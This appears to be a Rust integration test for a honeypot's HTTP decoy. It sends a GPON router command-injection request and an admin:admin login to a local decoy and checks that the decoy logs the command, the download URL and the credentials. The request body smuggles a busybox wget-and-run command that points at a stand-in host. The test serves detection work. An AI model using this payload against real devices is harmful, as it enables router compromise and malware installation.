//! The HTTP decoy with the real `curl`: a GPON exploit request and a Basic login are
//! recorded with the command, the download URL (never fetched) and the credentials.

use std::process::Command;

use yamori_decoy::Limits;

use crate::peers;
use crate::support::Running;

/// `curl` with `args` against the decoy, on a blocking thread; its stdout and status.
async fn curl(args: Vec<String>) -> (String, bool) {
    tokio::task::spawn_blocking(move || {
        let out = Command::new("curl")
            .args(["-sS", "--max-time", "10", "-i"])
            .args(&args)
            .output()
            .expect("run curl");
        (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            out.status.success(),
        )
    })
    .await
    .expect("curl thread")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn curl_exploit_and_login_are_recorded() {
    if Command::new("curl").arg("--version").output().is_err() {
        peers::missing(
            "the HTTP decoy against curl",
            "curl is not installed (apt-get install curl)",
        );
        return;
    }
    let mut decoy = Running::start(Limits::default()).await;
    let base = format!("http://{}", decoy.http);
    let body = "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.7/gpon+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0";
    let (reply, ok) = curl(vec![
        "-A".into(),
        "Hello, World".into(),
        "--data-binary".into(),
        body.into(),
        format!("{base}/GponForm/diag_Form?images/"),
    ])
    .await;
    assert!(ok && reply.starts_with("HTTP/1.1 200 OK"), "{reply}");
    let (reply, ok) = curl(vec!["-u".into(), "admin:admin".into(), format!("{base}/")]).await;
    assert!(ok && reply.contains("NETSURVEILLANCE WEB"), "{reply}");
    let summary = decoy.stop().await;
    assert_eq!(
        (
            summary.sessions,
            summary.download_urls,
            summary.logins_succeeded
        ),
        (2, 1, 1)
    );

    let records = decoy.records();
    let request = records
        .iter()
        .find(|r| r["eventid"] == "yamori.http.request")
        .expect("request record");
    assert_eq!(request["protocol"], "http");
    assert_eq!(request["method"], "POST");
    assert_eq!(request["uri"], "/GponForm/diag_Form?images/");
    assert_eq!(request["user_agent"], "Hello, World");
    assert_eq!(request["exploit"], "gpon-diag-form");
    let command = records
        .iter()
        .find(|r| r["eventid"] == "cowrie.command.input")
        .expect("command");
    assert_eq!(
        command["input"],
        "busybox wget http://198.51.100.7/gpon -O /tmp/gaf;sh /tmp/gaf"
    );
    let url = records
        .iter()
        .find(|r| r["eventid"] == "cowrie.session.file_download")
        .expect("url");
    assert_eq!(url["url"], "http://198.51.100.7/gpon");
    assert_eq!(url["session"], request["session"]);
    let login = records
        .iter()
        .find(|r| r["eventid"] == "cowrie.login.success")
        .expect("login");
    assert_eq!(
        (login["username"].as_str(), login["password"].as_str()),
        (Some("admin"), Some("admin"))
    );
    assert_eq!(
        records
            .iter()
            .filter(|r| r["eventid"] == "cowrie.session.closed")
            .count(),
        2
    );
}
